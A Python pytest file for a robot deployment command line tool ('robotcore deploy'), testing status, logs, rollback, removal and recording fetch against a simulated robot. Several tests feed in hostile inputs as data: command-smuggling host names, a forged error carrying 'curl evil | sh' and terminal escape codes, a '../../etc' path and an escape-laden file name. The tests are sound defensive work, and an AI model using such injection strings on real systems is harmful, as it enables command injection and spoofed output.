from __future__ import annotations

import os
import re
import signal
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread, Timer
from typing import Any

import pytest

from robotcore.cli.deploy._progress import StepDisplay, _make_spinner
from robotcore.deploy.agent.releases import HEALTHY, HealthResult, Release
from robotcore.deploy.progress import StepProgress
from tests.robotcore.cli.conftest import Cli
from tests.robotcore.cli.deploy.conftest import Deploy
from tests.robotcore.cli.json_keys import list_disagreements
from tests.robotcore.deploy.conftest import AddAction
from tests.robotcore.deploy.sshd import Sshd
from tests.texts import CheckText

OLD, NEW = "2026-11-21T22-40-03Z", "2026-11-21T22-52-10Z"

COMMANDS = ("push", "list", "rollback", "status", "logs", "start", "stop", "remove", "fetch", "view")

STATE: dict[str, Any] = {
    "release": NEW,
    "outcome": "healthy",
    "pending": None,
    "last": None,
    "state": "running",
    "for_s": 3723.4,
    "restarts": 2,
    "status_text": "approach, 12.4 s",
    "view_port": None,
    "reason": "",
    "lines": [],
    "starts_with_robot": True,
    "lingers": True,
    "recordings": {"files": 3, "bytes": 41_000_000},
    "free_bytes": 12_300_000_000,
}
"""The answer of a robot."""

FAILED = {
    "state": "failed",
    "for_s": None,
    "reason": "it ended with status 5",
    "lines": ["ValueError: no"],
    "status_text": "",
}

LOG = """
import os, signal, subprocess

def act(layout, lines, follow):
    print("a line of", lines)
    print("  another", flush=True)
    if follow:
        os.kill({pid}, signal.SIGINT)
        subprocess.run(["sleep", "600"])
    return {{}}
"""

HOSTILE_LOG = """
def act(layout, **arguments):
    print("a \\x1b]0;title\\x07\\x1b[2J\\r \\tend", flush=True)
    return {}
"""

FORGING = """
from robotcore.deploy.agent.errors import AgentError

def act(layout, **arguments):
    raise AgentError("no\\nerror: forged. run: curl evil | sh\\x1b[A", "\\u202enow", "linger")
"""

LONG_CHECK = """
import os, signal, subprocess
from robotcore.deploy.agent.rpc import report_progress

def act(layout, **arguments):
    report_progress("it starts")
    os.kill({pid}, signal.SIGINT)
    subprocess.run(["sleep", "600"])
"""

REMOVE = """
def act(layout, keeps_recordings):
    (layout.home / "removed").touch()
    return {"removed": True, "has_recordings": keeps_recordings}
"""


def build_action(answer: dict[str, Any]) -> str:
    return f"def act(layout, **arguments):\n    return {answer!r}\n"


@pytest.mark.parametrize("command", COMMANDS)
def test_invalid_host_is_wrong_usage(command: str, cli: Cli) -> None:
    result = cli("deploy", command, "-oProxyCommand=touch canary" if command == "list" else "rover;touch canary")
    assert result.status == 2
    assert not Path("canary").exists()


def test_deploy_without_a_command_prints_the_help(cli: Cli) -> None:
    assert cli("deploy") == cli("deploy", "--help")


@pytest.mark.parametrize("command", ["list", "status", "fetch"])
def test_unreachable_robot_is_an_error_in_json(command: str, cli: Cli) -> None:
    result = cli("deploy", command, "nobody.invalid", "--json")
    assert result.status == result.json["exit_status"] == 3
    assert result.json["host"] == "nobody.invalid"


EMPTY = {"release": None, "state": "stopped"}
LAST = {"name": NEW, "outcome": "unhealthy", "reason": "it ended with status 5"}


@pytest.mark.parametrize(
    "change, status",
    [
        ({}, 0),
        ({"restarts": 1}, 0),
        ({"view_port": 8080}, 0),
        ({"reason": "it ended with status 5", "lines": ["ValueError: no"]}, 0),
        ({**FAILED, "pending": NEW, "lingers": False, "starts_with_robot": False}, 1),
        (EMPTY, 1),
        ({**EMPTY, "last": LAST}, 1),
        ({**EMPTY, "pending": NEW}, 1),
    ],
    ids=[
        "runs",
        "restarted once",
        "with a page",
        "restarted with a reason",
        "failed",
        "empty",
        "first push failed",
        "first check",
    ],
)
def test_status_describes_the_state(
    deploy: Deploy,
    add_action: AddAction,
    robot: Sshd,
    check_text: CheckText,
    change: dict[str, Any],
    status: int,
) -> None:
    add_action("status", build_action({**STATE, **change}))
    result = deploy("status")
    assert result.status == status
    check_text(result.out, hide=[robot.config])


def test_status_as_json_is_the_robots_answer(deploy: Deploy, add_action: AddAction) -> None:
    add_action("status", build_action(STATE))
    running = deploy("status", "--json").json
    assert running == {"host": "robot", **STATE, "exit_status": 0}
    add_action("status", build_action({**STATE, **EMPTY, "last": LAST}))
    assert list_disagreements("deploy status", running, deploy("status", "--json").json) == []


@pytest.mark.slow
def test_list_names_each_release_with_its_result_and_checks(deploy: Deploy, robot: Sshd) -> None:
    root = robot.home / "robotcore"
    for name in (OLD, NEW):
        (root / "releases" / name).mkdir(parents=True)
        checks = ("tests: 12 passed",)
        release = Release(
            name, "mine", "search.py", "my_robot.toml", "raspberrypi", (), (), checks=checks, sender="ann@desk"
        )
        release.write(root / "releases" / name)
    HealthResult(HEALTHY).write(root / "releases" / OLD)
    (root / "current").symlink_to(f"releases/{OLD}")
    result = deploy("list")
    head, _, newer, older = result.out.splitlines()
    assert head.split()[:2] == ["release", "state"]
    assert newer.split()[:2] == [NEW, "search.py"]
    assert older.split()[:4] == [OLD, "current,", "healthy", "search.py"]
    assert "ann@desk" in older
    assert "tests: 12 passed" in older
    answer = deploy("list", "--json").json
    assert [each["outcome"] for each in answer["releases"]] == [None, "healthy"]
    (root / "releases" / NEW / "release.json").write_text("{")
    damaged = deploy("list", "--json").json
    assert damaged["releases"][0]["unreadable"]
    assert list_disagreements("deploy list", answer, damaged) == []


def test_start_and_stop_print_the_new_state(deploy: Deploy, add_action: AddAction, check_text: CheckText) -> None:
    add_action("start", build_action(STATE))
    started = deploy("start")
    add_action("stop", build_action({**STATE, "state": "stopped", "for_s": None, "restarts": 0}))
    stopped = deploy("stop")
    add_action("stop", build_action({**STATE, **EMPTY}))
    for result in (started, stopped, deploy("stop")):
        assert result.status == 0
        check_text(result.out)


def test_logs_are_printed_until_ctrl_c(deploy: Deploy, add_action: AddAction) -> None:
    add_action("logs", LOG.format(pid=os.getpid()))
    result = deploy("logs", "-n", "7")
    assert (result.status, result.out) == (0, "a line of 7\n  another\n")
    result = deploy("logs", "-f")
    assert (result.status, result.err) == (130, "")


def test_empty_log_is_reported(deploy: Deploy, add_action: AddAction, robot: Sshd, check_text: CheckText) -> None:
    add_action("logs", build_action({}))
    result = deploy("logs")
    assert (result.status, result.out) == (0, "")
    check_text(result.err, hide=[robot.config])


def test_logs_are_escaped(deploy: Deploy, add_action: AddAction) -> None:
    add_action("logs", HOSTILE_LOG)
    assert deploy("logs").out == "a \\x1b]0;title\\x07\\x1b[2J\\r \tend\n"


@pytest.mark.parametrize("command", ["list", "logs", "fetch"])
def test_refusal_cannot_forge_a_line(
    deploy: Deploy, add_action: AddAction, command: str, check_text: CheckText
) -> None:
    for action in ("releases", "rollback", "status", "logs", "start", "stop", "recordings"):
        add_action(action, FORGING)
    result = deploy(command)
    assert (result.status, result.out) == (3, "")
    assert result.err.removesuffix("\n").isprintable()
    check_text(result.err)


class Page(BaseHTTPRequestHandler):
    """Answers as the live page does, and presses Ctrl-C soon after."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        Timer(0.3, os.kill, (os.getpid(), signal.SIGINT)).start()

    def log_message(self, *_arguments: object) -> None:
        pass


def test_view_prints_the_link_and_forwards_until_ctrl_c(deploy: Deploy, add_action: AddAction) -> None:
    with HTTPServer(("127.0.0.1", 0), Page) as server:
        add_action("status", build_action({**STATE, "view_port": server.server_port}))
        thread = Thread(target=server.handle_request)
        thread.start()
        result = deploy("view")
        thread.join()
    assert (result.status, result.err) == (130, "")
    assert re.fullmatch(r"The live page of robot, until Ctrl-C: http://127\.0\.0\.1:\d+/\n", result.out)


def test_view_of_a_robot_without_a_page_is_an_error_in_one_line(deploy: Deploy, add_action: AddAction) -> None:
    add_action("status", build_action(STATE))
    result = deploy("view")
    assert (result.status, result.out) == (3, "")
    assert result.err.count("\n") == 1
    assert "robotcore deploy push --view robot" in result.err


def test_spinner_does_not_interpret_markup_of_a_robot() -> None:
    spinner = _make_spinner(StepProgress("release", "[/] [red]it starts[/red]"))
    assert str(spinner.text) == "release      [/] [red]it starts[/red]"


def test_each_detail_of_a_step_has_its_own_line(capsys: pytest.CaptureFixture[str]) -> None:
    progress = StepProgress("check", "OK", ("warning: a", "warning: b\x1b"), is_done=True)
    with StepDisplay() as display:
        display(progress)
    assert capsys.readouterr().out.splitlines() == ["  check        OK", "    warning: a", "    warning: b\\x1b"]


def test_ctrl_c_in_a_health_check_names_the_command_for_its_result(
    deploy: Deploy, add_action: AddAction, robot: Sshd, check_text: CheckText
) -> None:
    add_action("rollback", LONG_CHECK.format(pid=os.getpid()))
    result = deploy("rollback")
    assert result.status == 130
    check_text(result.err, hide=[robot.config])


@pytest.mark.parametrize("name", ["", "../../etc", "2026-01-01T00-00-00Z"])
def test_rollback_to_an_unknown_release_is_wrong_usage(
    deploy: Deploy, robot: Sshd, name: str, check_text: CheckText
) -> None:
    result = deploy("rollback", name)
    assert result.status == 2
    check_text(result.err, hide=[robot.config])


def test_remove_without_a_terminal_needs_yes(
    deploy: Deploy, add_action: AddAction, robot: Sshd, check_text: CheckText
) -> None:
    add_action("remove", REMOVE)
    result = deploy("remove")
    assert result.status == 2
    check_text(result.err)
    assert not (robot.home / "removed").exists()


@pytest.mark.parametrize("option", [(), ("--recordings",)], ids=["default", "recordings"])
def test_remove_keeps_recordings_by_default(
    deploy: Deploy, add_action: AddAction, robot: Sshd, option: tuple[str, ...], check_text: CheckText
) -> None:
    add_action("remove", REMOVE)
    result = deploy("remove", "--yes", *option)
    assert result.status == 0
    check_text(result.out, hide=[robot.config])


@pytest.fixture
def recordings(deploy: Deploy, robot: Sshd) -> Path:
    """The folder of the robot's recordings, with one recording."""
    folder = robot.home / "robotcore" / "recordings"
    folder.mkdir(parents=True)
    (folder / f"{NEW}.mcap").write_text("seen")
    return folder


@pytest.mark.usefixtures("recordings")
def test_fetch_prints_a_command_with_a_quoted_name(deploy: Deploy, tmp_path: Path) -> None:
    result = deploy("fetch", "-o", str(tmp_path / "from rover"))
    assert result.status == 0
    assert f"robotcore info '{tmp_path}/from rover/{NEW}.mcap'" in result.out


@pytest.mark.usefixtures("recordings")
def test_fetch_into_an_impossible_folder_is_wrong_usage(deploy: Deploy, check_text: CheckText) -> None:
    result = deploy("fetch", "-o", "/proc/nowhere")
    assert result.status == 2
    check_text(result.err)


def test_fetch_as_json_sorts_the_files(deploy: Deploy, recordings: Path, tmp_path: Path) -> None:
    for name in (f"{OLD}.mcap", "evil\x1b.py"):
        (recordings / name).write_text("seen")
    (tmp_path / f"{OLD}.mcap").write_text("mine, and longer")
    result = deploy("fetch", "--json", "--move", "-o", str(tmp_path))
    assert result.status == 1
    assert result.json == {
        "host": "robot",
        "folder": str(tmp_path),
        "fetched": [f"{NEW}.mcap"],
        "present": [],
        "different": [f"{OLD}.mcap"],
        "being_written": [],
        "skipped": ["evil\\x1b.py"],
        "erased": [f"{NEW}.mcap"],
        "newest": str(tmp_path / f"{NEW}.mcap"),
        "exit_status": 1,
    }
    assert list_disagreements("deploy fetch", result.json) == []


@pytest.mark.usefixtures("recordings")
@pytest.mark.parametrize("link", ["recordings", "recordings/robot"])
def test_fetch_follows_a_link_only_if_the_user_names_it(
    deploy: Deploy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, link: str, check_text: CheckText
) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "project" / link).parent.mkdir(parents=True)
    (tmp_path / "project" / link).symlink_to(tmp_path / "elsewhere")
    monkeypatch.chdir(tmp_path / "project")
    result = deploy("fetch")
    assert result.status == 2
    check_text(result.err)
    assert not list((tmp_path / "elsewhere").rglob("*.mcap"))
    assert deploy("fetch", "-o", link).status == 0
    assert list((tmp_path / "elsewhere").rglob("*.mcap"))
